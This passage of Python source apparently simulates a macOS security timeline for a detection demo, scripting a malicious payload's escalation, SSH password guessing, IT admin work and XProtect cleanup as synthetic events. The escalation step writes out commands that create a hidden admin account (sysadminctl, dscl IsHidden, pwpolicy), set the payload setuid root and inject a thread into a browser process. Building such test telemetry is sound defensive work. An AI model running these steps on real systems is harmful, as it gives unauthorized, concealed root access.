    mac.lw_session("logout", "alice", DEMO_GRAPHICAL_SESSION)
    for p in session + [settings]:
        if p.alive:
            mac.exit(p, 0)
    churn()
    yield
    while mac.emitted < events:
        noise.run(min(200, events - mac.emitted))
        yield


def last_command(env: tuple, path: str) -> tuple:
    """The environment a shell passes: ``_`` names the command being run."""
    return tuple(e for e in env if not e.startswith("_=")) + (f"_={path}",)


def tty_fds(extra: int = 0) -> list[tuple]:
    fds = [(0, PROX_FDTYPE_VNODE, None), (1, PROX_FDTYPE_VNODE, None), (2, PROX_FDTYPE_VNODE, None)]
    if extra:
        fds.append((extra, PROX_FDTYPE_VNODE, None))
    return fds


def zsh_tools(mac: Mac, zsh: Proc, env: tuple) -> None:
    """Ordinary commands before the dropper: context for a timeline."""
    for args, path, sid in ((["ls", "-la"], "/bin/ls", "com.apple.ls"),
                            (["git", "status"], "/usr/bin/git", "com.apple.git"),
                            (["uname", "-a"], "/usr/bin/uname", "com.apple.uname")):
        p = mac.fork(zsh, new_group=True)
        mac.exec(p, mac.image(path, sid), args, last_command(env, path))
        _after_exec(mac, p)
        if args[0] == "git":
            clt = "/Library/Developer/CommandLineTools/usr/bin/git"
            mac.exec(p, mac.image(clt, "com.apple.git"), [clt, "status"], last_command(env, path))
            for f in (f"{HOME}/.gitconfig", f"{HOME}/src/osq-demo/.git/HEAD", f"{HOME}/src/osq-demo/.git/index"):
                mac.open(p, f, FREAD)
                mac.close(p, f)
        mac.exit(p, 0)
        mac.sleep(mac.rng.uniform(1, 4))


# -- the demo's security acts -------------------------------------------------------------------

SUDO = ("/usr/bin/sudo", "com.apple.sudo")
SYSADMINCTL = ("/usr/sbin/sysadminctl", "com.apple.sysadminctl")
DSCL = ("/usr/bin/dscl", "com.apple.dscl")
DSEDITGROUP = ("/usr/sbin/dseditgroup", "com.apple.dseditgroup")


def _od_user(name: str) -> dict:
    """An OpenDirectory password check of a local user (authentication's od arm)."""
    return {"record_type": "Users", "record_name": name, "node_name": u.LOCAL_NODE, "db_path": u.LOCAL_DB}


def _member(name: str) -> dict:
    return {"member_type": u.OD_MEMBER_USER_NAME, "member_value": name}


def _tool(mac: Mac, parent: Proc, tool: tuple, args: list[str], env=None, **kw) -> Proc:
    """``parent`` runs a command-line tool (posix_spawn: a fork and an exec)."""
    return mac.spawn(parent, mac.image(*tool), args, env if env is not None else parent.env, **kw)


def _login_housekeeping(mac: Mac, procs: dict) -> None:
    """cfprefsd's atomic save (a rename onto the old plist) and MDM's profiles after login."""
    rng = mac.rng
    cfprefsd = procs["com.apple.cfprefsd.xpc.agent"]
    dock = f"{HOME}/Library/Preferences/com.apple.dock.plist"
    mac.file(dock)
    temp = f"{dock}.sb-{hex_id(rng, 8).lower()}-{hex_id(rng, 6)}"
    mac.create(cfprefsd, temp, 0o600)
    mac.open(cfprefsd, temp, FWRITE | O_CREAT | O_CLOEXEC)
    mac.write(cfprefsd, temp, 4096)
    mac.close(cfprefsd, temp, modified=True)
    mac.rename(cfprefsd, temp, dock)
    mdm = mac.launch_job("com.apple.mdmclient.daemon", mac.image("/usr/libexec/mdmclient", "com.apple.mdmclient"),
                         ["/usr/libexec/mdmclient", "daemon"])
    _after_exec(mac, mdm)
    org = "Example Org (example.invalid)"
    mac.profile("add", DEMO_PROFILE, uuid_of(rng), display_name="Example Wi-Fi", organization=org, instigator=mdm)
    mac.profile("remove", DEMO_OLD_PROFILE, uuid_of(rng), display_name="Legacy VPN", organization=org,
                instigator=mdm)


def _disk_image(mac: Mac, safari: Proc, procs: dict, session: list) -> None:
    """Safari downloads a disk image (quarantined); it is mounted; Gatekeeper blocks its unnotarized
    app and alice clicks Open Anyway; she runs it and ejects the disk."""
    rng = mac.rng
    mac.dir(f"{HOME}/Downloads")
    mac.create(safari, DEMO_DMG, 0o644, new_path=True)
    mac.open(safari, DEMO_DMG, FWRITE | O_CREAT | O_TRUNC)
    for _ in range(4):
        mac.write(safari, DEMO_DMG, 262_144)
    mac.close(safari, DEMO_DMG, modified=True)
    mac.setextattr(safari, DEMO_DMG, "com.apple.quarantine")
    mac.setextattr(safari, DEMO_DMG, "com.apple.metadata:kMDItemWhereFroms")
    mac.sleep(4)
    volume = k.Volume(DEMO_DMG_VOLUME, "/dev/disk4s1", "hfs", k.MNT_RDONLY | k.MNT_NOSUID | k.MNT_NODEV
                      | k.MNT_QUARANTINE | k.MNT_LOCAL | k.MNT_JOURNALED | k.MNT_IGNORE_OWNERSHIP, owner=ALICE,
                      blocks=2_400, free=310, files=57)
    arbitration = procs["com.apple.diskarbitrationd"]
    mac.mount(arbitration, volume, k.DISPOSITION_VIRTUAL)
    tool = mac.image(DEMO_GATEKEEPER_OVERRIDE, "com.example.invalid.exampletool", "EXAMPLE4TL", "devid")
    mac.sleep(6)
    mac.gatekeeper_user_override(DEMO_GATEKEEPER_OVERRIDE, sha256=hex_id(rng, 64), signing=tool)
    app = mac.launch_job("application.com.example.invalid.exampletool.2741630.2741637", tool, uid=ALICE,
                         gid=GID_STAFF, asid=ALICE_ASID)
    _after_exec(mac, app)
    mac.sleep(8)
    mac.exit(app, 0)
    mac.unmount(arbitration, volume)


def _screen_recording_grant(mac: Mac, bg: Proc, session: list) -> Proc:
    """The adopted payload listens on a socket, asks tccd for screen recording, and alice grants it
    in System Settings (tcc_modify: instigator System Settings, identity the payload's path)."""
    mac.uipc_bind(bg, DEMO_SOCKET, 0o777)
    mac.xpc_connect(bg, "com.apple.tccd", u.XPC_DOMAIN_GUI)
    mac.sleep(9)
    settings = mac.launch_job("application.com.apple.systempreferences.2741655.2741662",
                              mac.image(DEMO_SYSTEM_SETTINGS, "com.apple.systempreferences"), uid=ALICE,
                              gid=GID_STAFF, asid=ALICE_ASID)
    _after_exec(mac, settings)
    session.append(settings)
    mac.sleep(5)
    mac.tcc_modify(DEMO_TCC_SERVICE, DEMO_PAYLOAD, identity_type=u.TCC_IDENTITY_PATH, update_type=u.TCC_CREATE,
                   right=u.TCC_ALLOWED, reason=u.TCC_USER_SET, instigator=settings, responsible=settings)
    # It patches its own code: a page made writable and executable, then CS_VALID goes.
    mac.mprotect(bg, 0x1_0400_0000, 0x4000, 7)
    mac.cs_invalidated(bg)
    return settings


def _escalate(mac: Mac, bg: Proc, payload_img, safari: Proc, webcontent: Proc) -> None:
    """An admin-rights prompt the payload petitions and alice approves; its root helper (the
    payload again, through security_authtrampoline) makes itself setuid root, creates a hidden
    admin, and injects a thread into a WebContent process."""
    mac.sleep(4)
    mac.authorization("petition", bg, rights=(DEMO_AUTHORIZATION_RIGHT,), flags=0x3)  # interaction, extend rights
    host = mac.launch_job("com.apple.security.authhost", mac.image(
        "/System/Library/Frameworks/Security.framework/Versions/A/MachServices/authorizationhost.bundle/"
        "Contents/MacOS/authorizationhost", "com.apple.authorizationhost"), uid=92, gid=92)
    mac.sleep(7)
    mac.authentication("od", True, _od_user("alice"), instigator=host)
    mac.authorization("judgement", bg, results=((DEMO_AUTHORIZATION_RIGHT, u.RULE_USER, True),))
    helper = mac.fork(bg)
    mac.exec(helper, mac.image("/usr/libexec/security_authtrampoline", "com.apple.security_authtrampoline"),
             ["/usr/libexec/security_authtrampoline", DEMO_PAYLOAD_ARG, "auth 7", "--install"], setuid=0)
    mac.set_credentials(helper, "setuid", uid=0)
    mac.exec(helper, payload_img, [DEMO_PAYLOAD_ARG, "--install"], dyld_exec_path=DEMO_PAYLOAD_ARG)
    mac.uipc_connect(helper, DEMO_SOCKET)
    mac.setowner(helper, DEMO_PAYLOAD, 0, 0)
    mac.setmode(helper, DEMO_PAYLOAD, 0o4755)
    add = _tool(mac, helper, SYSADMINCTL, ["sysadminctl", "-addUser", DEMO_HIDDEN_ADMIN, "-password", "-", "-admin"])
    mac.od("create_user", add, {"user_name": DEMO_HIDDEN_ADMIN})
    mac.od("modify_password", add, {"account_type": u.OD_ACCOUNT_USER, "account_name": DEMO_HIDDEN_ADMIN})
    mac.od("group_add", add, {"group_name": "admin", "member": _member(DEMO_HIDDEN_ADMIN)})
    mac.exit(add, 0)
    hide = _tool(mac, helper, DSCL, ["dscl", ".", "-create", f"/Users/{DEMO_HIDDEN_ADMIN}", "IsHidden", "1"])
    mac.od("attribute_set", hide, {"record_type": u.OD_RECORD_USER, "record_name": DEMO_HIDDEN_ADMIN,
                                   "attribute_name": "IsHidden", "attribute_value_count": 1,
                                   "attribute_values": ["1"]})
    mac.exit(hide, 0)
    enable = _tool(mac, helper, ("/usr/bin/pwpolicy", "com.apple.pwpolicy"),
                   ["pwpolicy", "-u", DEMO_HIDDEN_ADMIN, "-enableuser"])
    mac.od("enable_user", enable, {"user_name": DEMO_HIDDEN_ADMIN})
    mac.exit(enable, 0)
    for kind in ("get_task_name", "get_task_inspect", "get_task_read"):
        mac.get_task(helper, safari, kind=kind)
    mac.trace(helper, webcontent)
    mac.get_task(helper, webcontent, type=k.GET_TASK_FOR_PID)
    mac.remote_thread_create(helper, webcontent)
    mac.exit(helper, 0)


def _sudo_and_su(mac: Mac, zsh: Proc, env: tuple) -> None:
    """``sudo launchctl list`` with Touch ID (pam_tid), then a failed ``su - ituser``."""
    mac.sleep(12)
    sudo = _tool(mac, zsh, SUDO, ["sudo", "launchctl", "list"], last_command(env, SUDO[0]), new_group=True,
                 setuid=0)
    mac.authentication("touchid", True, {"touchid_mode": 0, "uid": ALICE}, instigator=sudo)
    mac.sudo(sudo, True, command="/bin/launchctl list", from_uid=ALICE, from_username="alice")
    launchctl = _tool(mac, sudo, ("/bin/launchctl", "com.apple.xpc.launchctl"), ["launchctl", "list"])
    mac.exit(launchctl, 0)
    mac.exit(sudo, 0)
    mac.sleep(6)
    su = _tool(mac, zsh, ("/usr/bin/su", "com.apple.su"), ["su", "-", DEMO_IT_USER], last_command(env, "/usr/bin/su"),
               new_group=True, setuid=0)
    mac.sleep(4)
    mac.authentication("od", False, _od_user(DEMO_IT_USER), instigator=su)
    mac.su(su, False, from_uid=ALICE, from_username="alice", to_uid=None, to_username=None,
           failure_message="Sorry")
    mac.exit(su, 1)


def _sshd(mac: Mac) -> Proc:
    """launchd starts one sshd per connection (inetd style)."""
    sshd = mac.launch_job("com.openssh.sshd", mac.image("/usr/sbin/sshd", "com.apple.sshd"), ["/usr/sbin/sshd", "-i"])
    _after_exec(mac, sshd)
    return sshd


def _it_visit(mac: Mac, rng) -> None:
    """Password guessing over SSH from 198.51.100.23; ituser logs in from 192.0.2.10, runs an
    onboarding script with sudo (OpenDirectory changes), and helps alice over Screen Sharing."""
    guesser = _sshd(mac)
    mac.openssh("login", guesser, DEMO_SSH_GUESSING, "admin", None, success=False, result=u.SSH_INVALID_USER)
    for _ in range(2):
        mac.sleep(rng.uniform(1, 3))
        mac.openssh("login", guesser, DEMO_SSH_GUESSING, "alice", None, success=False,
                    result=u.SSH_AUTH_FAIL_PASSWD)
    mac.exit(guesser, 255)
    mac.sleep(40)
    sshd = _sshd(mac)
    mac.openssh("login", sshd, DEMO_SSH_FROM, DEMO_IT_USER, DEMO_IT_UID)
    shell = mac.fork(sshd, new_session=True)
    shell.user(DEMO_IT_UID, GID_STAFF)
    home = f"/Users/{DEMO_IT_USER}"
    env = (f"USER={DEMO_IT_USER}", f"LOGNAME={DEMO_IT_USER}", f"HOME={home}", "SHELL=/bin/zsh",
           "PATH=/usr/bin:/bin:/usr/sbin:/sbin", f"SSH_CLIENT={DEMO_SSH_FROM} 52144 22",
           f"SSH_CONNECTION={DEMO_SSH_FROM} 52144 192.0.2.50 22", "TERM=xterm-256color")
    mac.exec(shell, mac.image("/bin/zsh", "com.apple.zsh"), ["-zsh"], env, cwd=mac.dir(home))
    script = f"{home}/onboard.sh"
    sudo = _tool(mac, shell, SUDO, ["sudo", "/bin/zsh", script], new_group=True, setuid=0)
    mac.authentication("od", True, _od_user(DEMO_IT_USER), instigator=sudo)
    mac.sudo(sudo, True, command=f"/bin/zsh {script}", from_uid=DEMO_IT_UID, from_username=DEMO_IT_USER)
    root = _tool(mac, sudo, ("/bin/zsh", "com.apple.zsh"), ["/bin/zsh", script])
    root.user(0, GID_WHEEL)
    for tool, args, kind, fields in (
        (SYSADMINCTL, ["sysadminctl", "-guestAccount", "off"], "disable_user", {"user_name": "Guest"}),
        (DSEDITGROUP, ["dseditgroup", "-o", "create", "-r", "Example developers", "example-devs"], "create_group",
         {"group_name": "example-devs"}),
        (DSCL, ["dscl", ".", "-create", "/Groups/example-devs", "GroupMembership", "alice", DEMO_IT_USER], "group_set",
         {"group_name": "example-devs", "members": {"member_type": u.OD_MEMBER_USER_NAME, "member_count": 2,
                                                    "member_array": ["alice", DEMO_IT_USER]}}),
        (DSCL, ["dscl", ".", "-append", "/Users/alice", "Comment", "example-devs"], "attribute_value_add",
         {"record_type": u.OD_RECORD_USER, "record_name": "alice", "attribute_name": "Comment",
          "attribute_value": "example-devs"}),
        (DSCL, ["dscl", ".", "-delete", "/Users/alice", "Comment", "contractor"], "attribute_value_remove",
         {"record_type": u.OD_RECORD_USER, "record_name": "alice", "attribute_name": "Comment",
          "attribute_value": "contractor"}),
        (DSEDITGROUP, ["dseditgroup", "-o", "delete", "old-contractors"], "delete_group",
         {"group_name": "old-contractors"}),
    ):
        p = _tool(mac, root, tool, args)
        mac.od(kind, p, fields)
        mac.exit(p, 0)
    mac.exit(root, 0)
    mac.exit(sudo, 0)
    mac.sleep(25)
    screensharingd = mac.reporter("screensharingd")
    mac.authentication("token", True, {"pubkey_hash": hex_id(rng, 40), "token_id": "com.example.invalid.piv:"
                                       + hex_id(rng, 12), "kerberos_principal": None}, instigator=screensharingd)
    mac.screensharing("attach", DEMO_GRAPHICAL_SESSION, address=DEMO_SSH_FROM, auth_type="smartcard",
                      auth_username=DEMO_IT_USER, session_username="alice", existing_session=True)
    mac.sleep(75)
    mac.screensharing("detach", DEMO_GRAPHICAL_SESSION, address=DEMO_SSH_FROM)
    mac.exit(shell, 0)
    mac.openssh("logout", sshd, DEMO_SSH_FROM, DEMO_IT_USER, DEMO_IT_UID)
    mac.exit(sshd, 0)


def _xprotect(mac: Mac, rng, bg: Proc) -> None:
    """XProtect detects the payload, kills the adopted process, deletes the binary, and says so."""
    incident, version = uuid_of(rng), "5312"
    mac.xp_malware_detected(DEMO_MALWARE, incident, DEMO_PAYLOAD, DEMO_PAYLOAD, version)
    xprotect = mac.reporter("XProtect")
    mac.signal(xprotect, bg, 9)
    mac.exit(bg, signal=9)
    mac.unlink(xprotect, DEMO_PAYLOAD)
    mac.xp_malware_remediated(DEMO_MALWARE, incident, action="path_delete", success=True,
                              description="Remediated: process killed, file deleted", path=DEMO_PAYLOAD,
                              process=bg, signature_version=version)


def _clean_up(mac: Mac, zsh: Proc, env: tuple, terminal: Proc) -> None:
    """rm of both agents (BTM sees them go), ``tccutil reset ScreenCapture``, and ``sudo
    sysadminctl -deleteUser _sysupdate`` (out of admin, then deleted)."""
    rm = _tool(mac, zsh, ("/bin/rm", "com.apple.rm"), ["rm", DEMO_LAUNCH_AGENT, DEMO_RENAMED_AGENT],
               last_command(env, "/bin/rm"), new_group=True)
    for path, url in ((DEMO_LAUNCH_AGENT, DEMO_LAUNCH_AGENT_URL), (DEMO_RENAMED_AGENT, DEMO_RENAMED_AGENT_URL)):
        mac.unlink(rm, path)
        mac.btm_launch_item("remove", url)
    mac.exit(rm, 0)
    tccutil = _tool(mac, zsh, ("/usr/bin/tccutil", "com.apple.tccutil"), ["tccutil", "reset", "ScreenCapture"],
                    last_command(env, "/usr/bin/tccutil"), new_group=True)
    mac.tcc_modify(DEMO_TCC_SERVICE, DEMO_PAYLOAD, identity_type=u.TCC_IDENTITY_PATH, update_type=u.TCC_DELETE,
                   right=u.TCC_DENIED, reason=u.TCC_USER_SET, instigator=tccutil, responsible=terminal)
    mac.exit(tccutil, 0)
    sudo = _tool(mac, zsh, SUDO, ["sudo", "sysadminctl", "-deleteUser", DEMO_HIDDEN_ADMIN],
                 last_command(env, SUDO[0]), new_group=True, setuid=0)
    mac.authentication("touchid", True, {"touchid_mode": 0, "uid": ALICE}, instigator=sudo)
    mac.sudo(sudo, True, command=f"/usr/sbin/sysadminctl -deleteUser {DEMO_HIDDEN_ADMIN}", from_uid=ALICE,
             from_username="alice")
    delete = _tool(mac, sudo, SYSADMINCTL, ["sysadminctl", "-deleteUser", DEMO_HIDDEN_ADMIN])
    mac.od("group_remove", delete, {"group_name": "admin", "member": _member(DEMO_HIDDEN_ADMIN)})
    mac.od("delete_user", delete, {"user_name": DEMO_HIDDEN_ADMIN})
    mac.exit(delete, 0)
    mac.exit(sudo, 0)
